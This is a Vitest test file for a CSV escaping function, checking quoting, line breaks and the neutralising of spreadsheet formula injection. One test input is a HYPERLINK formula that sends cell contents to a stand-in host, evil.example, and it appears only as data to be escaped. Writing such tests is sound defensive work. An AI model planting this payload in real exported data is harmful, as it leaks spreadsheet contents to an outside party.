import { expect, test } from "vitest";
import { toCsvCell, toCsvText } from "./csv-cell.ts";

test.each([
  ["plain", "plain"],
  ['a "word", and more', '"a ""word"", and more"'],
  ["two\r\nlines", '"two\r\nlines"'],
  ['=HYPERLINK("http://evil.example/?"&A1)', '"\'=HYPERLINK(""http://evil.example/?""&A1)"'],
  ["+1", "'+1"],
  ["@SUM(A1)", "'@SUM(A1)"],
  ["-A1", "'-A1"],
  ["-1.5", "-1.5"],
  ["-.5", "-.5"],
  ["\t=1", "'\t=1"],
  ["\r=1", '"\'\r=1"'],
])("the text %j is written %s", (text, cell) => {
  expect(toCsvText(text)).toBe(cell);
});

test("what is no text of others is written as it is", () => {
  expect([toCsvCell("=1"), toCsvCell("a,b")]).toEqual(["=1", '"a,b"']);
});
